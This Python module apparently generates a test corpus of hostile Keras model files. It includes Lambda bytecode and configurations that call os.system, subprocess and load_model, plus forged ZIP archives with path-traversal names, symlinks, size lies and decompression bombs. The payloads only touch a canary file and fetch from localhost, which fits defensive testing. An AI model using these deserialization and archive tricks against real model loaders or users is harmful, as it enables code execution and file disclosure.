"""Keras's archives, kinds A1 to A23: configurations that run code, and archives that lie."""

from __future__ import annotations

import base64
import json
import marshal
import struct
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from io import BytesIO

import hdf5_files
from items import CANARY, SECRET, Item, cut
from zip_maker import Part, archive, bomb, deflated


def layer(name: str, place: str = "keras.layers", registered: str | None = None, **config) -> dict:
    """A layer's entry in a configuration."""
    return {
        "module": place,
        "class_name": name,
        "config": {"name": "x", **config},
        "registered_name": registered,
    }


def model(*layers: dict) -> dict:
    """A model with an input and these layers."""
    first = layer("InputLayer", batch_shape=[None, 4], dtype="float32")
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "sequential", "trainable": True, "dtype": "float32",
                   "layers": [first, *layers], "build_input_shape": [None, 4]},
        "registered_name": None,
        "build_config": {"input_shape": [None, 4]},
    }  # fmt: skip


def bytecode() -> str:
    """A function that makes the canary file, as Keras writes a Lambda's."""
    source = f"lambda x: [open({CANARY!r}, 'w').close(), x][1]"
    code = eval(compile(source, "<lambda>", "eval")).__code__
    return base64.b64encode(marshal.dumps(code)).decode()


def calling(module: str, function: str, *arguments: object) -> dict:
    """A functional model in which the place of a layer is taken by a function, which is called."""
    first = layer("InputLayer", batch_shape=[None, 4], dtype="float32")
    entry = {
        "module": module,
        "class_name": "function",
        "config": function,
        "registered_name": function,
        "name": "called",
        "inbound_nodes": [{"args": list(arguments), "kwargs": {}}],
    }
    return {
        "module": "keras.src.models.functional",
        "class_name": "Functional",
        "config": {"name": "f", "trainable": True,
                   "layers": [{**first, "name": "x", "inbound_nodes": []}, entry],
                   "input_layers": [["x", 0, 0]], "output_layers": [["x", 0, 0]]},
        "registered_name": "Functional",
    }  # fmt: skip


def older(entry: dict) -> dict:
    """A configuration without the keys that Keras 3 added, which sends it another way."""
    inner = entry["config"]
    if "layers" in inner:
        inner = {**inner, "layers": [older(one) for one in inner["layers"]]}
    return {"class_name": entry["class_name"], "config": inner}


def configurations() -> Iterator[tuple[str, str, dict, set[str]]]:
    """Kind, name, configuration, and the endings under which Keras 3.8.0 does what it says."""
    both, neither = {"keras", "h5"}, set()
    function = {"class_name": "__lambda__", "config": {"code": bytecode(), "defaults": None,
                                                       "closure": None}}  # fmt: skip
    hidden = layer("Lambda", function=function, arguments={})
    touch = f"touch {CANARY}"
    yield "A1", "lambda", model(hidden), neither
    yield "A1", "lambda-older", older(model(hidden)), {"h5"}
    yield "A1", "lambda-list", model(layer("Lambda", function=[bytecode(), None, None])), neither
    yield "A2", "os", calling("os", "system", touch), both
    yield "A2", "posix", calling("posix", "system", touch), both
    yield "A2", "subprocess", calling("subprocess", "call", ["sh", "-c", touch]), both
    yield "A2", "exec", calling("builtins", "exec", "1"), neither
    yield "A2", "class", model(layer("system", "os")), neither
    fetch = calling("keras.utils", "get_file", "x", "http://127.0.0.1:9/x")
    yield "A3", "get-file", fetch, both
    yield "A4", "unsafe", calling("keras.config", "enable_unsafe_deserialization"), neither
    load = calling("keras.saving", "load_model", f"{SECRET}.keras", None, True, False)
    yield "A5", "load-model", load, both
    raw = {"class_name": "__bytes__", "config": {"value": "x"}}
    yield "A6", "torch", model(layer("TorchModuleWrapper", module=raw)), neither
    yield "A7", "saved-model", model(layer("TFSMLayer", filepath=SECRET)), neither
    yield "A8", "vocabulary", model(layer("StringLookup", vocabulary=SECRET)), neither
    yield "A8", "url", model(layer("StringLookup", vocabulary="http://127.0.0.1:9/")), neither
    yield "A8", "vectorization", model(layer("TextVectorization", vocabulary=SECRET)), neither
    yield "A9", "registered", model(layer("Dense", registered="os>system", units=2)), neither
    yield "A9", "lambda-registered", model(layer("Dense", registered="keras>Lambda")), neither
    spec = {"class_name": "__typespec__", "spec_name": "x"}
    yield "A10", "typespec", model(layer("Dense", units=spec)), neither
    yield "A10", "bytes", model(layer("Dense", units={"__bytes__": "AAAA"})), neither
    yield "A11", "dense", model(layer("Dense", units=10**10)), neither
    yield "A12", "embedding", model(layer("Embedding", input_dim=2**60, output_dim=4)), neither
    yield "A12", "reshape", model(layer("Reshape", target_shape=[2**60])), neither
    yield "A11", "float", model(layer("Dense", units=1e300)), neither


def sound_weights() -> bytes:
    """An HDF5 file of weights."""
    return hdf5_files.made(hdf5_files.nothing)


def sound_parts() -> list[Part]:
    """The members of a sound archive."""
    return [
        Part("metadata.json", b'{"keras_version": "3.8.0", "date_saved": "2026-11-24@10:00:00"}'),
        Part("config.json", json.dumps(model(layer("Dense", units=2))).encode()),
        Part("model.weights.h5", sound_weights()),
    ]


def with_config(text: bytes) -> bytes:
    """An archive whose configuration is this."""
    metadata, _, weights = sound_parts()
    return archive([metadata, Part("config.json", text), weights])


def from_configurations() -> Iterator[Item]:
    """A1 to A13, in both containers that hold configurations."""
    texts = [(k, n, json.dumps(c), where) for k, n, c, where in configurations()]
    nowhere: set[str] = set()
    texts.append(("A13", "deep", "[" * 100_000 + "]" * 100_000, nowhere))
    texts.append(("A13", "deep-object", '{"a":' * 100_000 + "1" + "}" * 100_000, nowhere))
    texts.append(("A13", "deep-config", '{"a":' * 100 + "1" + "}" * 100, nowhere))
    texts.append(("A22", "no-json", "Lambda", nowhere))
    texts.append(("A22", "list", "[1, 2]", nowhere))
    for kind, called, text, where in texts:
        yield Item(kind, f"{called}.keras", with_config(text.encode()), code="keras" in where)
        inside = "A23" if kind == "A1" else kind
        data = hdf5_files.with_config(text)
        yield Item(inside, f"{called}.h5", data, code="h5" in where)
    metadata, config, weights = sound_parts()
    spaces = bomb("config.json", b" ", 1024)
    yield Item("A14", "spaces.keras", archive([metadata, spaces, weights]))
    zeros = bomb("model.weights.h5", b"\0", 3993)
    yield Item("A15", "zeros.keras", archive([metadata, config, zeros]))
    yield Item("A22", "latin.keras", with_config('{"a": "é"}'.encode("latin-1")))


def archives() -> Iterator[Item]:
    """A16 to A22: archives that cannot be trusted."""
    metadata, config, weights = sound = sound_parts()
    other = Part("model.weights.h5", b"something else")
    yield Item("A16", "twice.keras", archive([*sound, other]))
    yield Item("A16", "config-twice.keras", archive([*sound, Part("config.json", b"{}")]))
    names = (b"../../x", b"/abs", b"C:\\x", b"a\0b", b"a\\..\\b", b"a/../../b", b"./a", b"a//b",
             b"", b"\xff\xfe", b"a\x1b[2J")  # fmt: skip
    for number, name in enumerate(names):
        yield Item("A17", f"name{number}.keras", archive([*sound, Part(name, b"x")]))
        yield Item("A17", f"own{number}.keras", archive(
            [metadata, config, Part("model.weights.h5", weights.data, own_name=name)]))  # fmt: skip
    link = Part("model.weights.h5", SECRET.encode(), mode=0o120777)
    yield Item("A18", "link.keras", archive([metadata, config, link]))
    yield Item("A18", "device.keras", archive([*sound, Part("x", b"", mode=0o020666)]))
    lies = {
        "size": Part("model.weights.h5", weights.data, size=2**31),
        "small": Part("model.weights.h5", weights.data, size=10),
        "crc": Part("model.weights.h5", weights.data, check=1),
        "zip64": Part("model.weights.h5", weights.data, size=2**32 - 1),
        "encrypted": Part("model.weights.h5", weights.data, flags=1),
        "lzma": Part("model.weights.h5", weights.data, method=14),
        "bzip2": Part("model.weights.h5", weights.data, method=12),
        "rubbish": Part("model.weights.h5", weights.data, packed=b"\xff" * 99, method=8),
        "longer": Part("model.weights.h5", b"x" * 10, packed=deflated("x", b"x" * 99).packed,
                       method=8),
    }  # fmt: skip
    for called, lie in lies.items():
        kind = "A20" if called in ("zip64", "encrypted", "lzma", "bzip2") else "A19"
        yield Item(kind, f"{called}.keras", archive([metadata, config, lie]))
        packed = config.data if lie.packed is None else lie.packed
        zipped = replace(lie, name="config.json", data=config.data, packed=packed)
        yield Item(kind, f"config-{called}.keras", archive([metadata, zipped, weights]))
    yield Item("A20", "many.keras", archive([Part(f"assets/{i}") for i in range(70_000)]))
    yield Item("A20", "sixty-five.keras", archive([*sound, *[Part(f"a{i}") for i in range(65)]]))
    for called, end in {
        "count": {"count": 2},
        "more": {"count": 60_000},
        "start": {"start": 2**31},
        "length": {"length": 2**31},
    }.items():
        yield Item("A20", f"end-{called}.keras", archive(sound, **end))
    for called, front in {
        "elf": b"\x7fELF" + bytes(60),
        "pdf": b"%PDF-1.7\n",
        "gap": b"\0",
    }.items():
        yield Item("A21", f"{called}.keras", archive(sound, front=front))
    yield Item("A21", "tail.keras", archive(sound, tail=b"\0" * 30))
    yield from without_weights(metadata, config, weights)
    whole = archive(sound)
    for share in (0.1, 0.5, 0.9, 0.99):
        yield Item("A35", f"cut{share}.keras", cut(whole, share))


def without_weights(metadata: Part, config: Part, weights: Part) -> Iterator[Item]:
    """A22: none, too many, or in another form."""
    objects = BytesIO()
    with zipfile.ZipFile(objects, "w") as file:
        file.writestr("a.npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", 10) + b"{'descr'  ")
    for called, parts in {
        "none": [metadata, config],
        "config-alone": [config],
        "npz": [metadata, config, Part("model.weights.npz", objects.getvalue())],
        "both": [metadata, config, weights, Part("model.weights.npz", objects.getvalue())],
        "empty": [metadata, config, Part("model.weights.h5")],
        "text": [metadata, config, Part("model.weights.h5", b"weights")],
        "assets": [metadata, config, weights, Part("assets/vocabulary.txt", b"a")],
        "pickle": [metadata, config, Part("model.weights.h5", b"\x80\x04N.")],
    }.items():
        yield Item("A22", f"{called}.keras", archive(parts))
    yield Item("A22", "objects.npz", objects.getvalue())
    yield Item("A22", "objects.keras", objects.getvalue())
    yield Item("A22", "nothing.keras", archive([]))


def items() -> Iterator[Item]:
    """All of them, and the hostile HDF5 files of `hdf5_files` as weights."""
    yield from from_configurations()
    yield from archives()
    metadata, config, _ = sound_parts()
    for kind, called, data in hdf5_files.contents():
        weights = Part("model.weights.h5", data)
        yield Item(kind, f"h5-{called}.keras", archive([metadata, config, weights]))
    yield Item("A15", "sound.keras", archive(sound_parts()), "read")
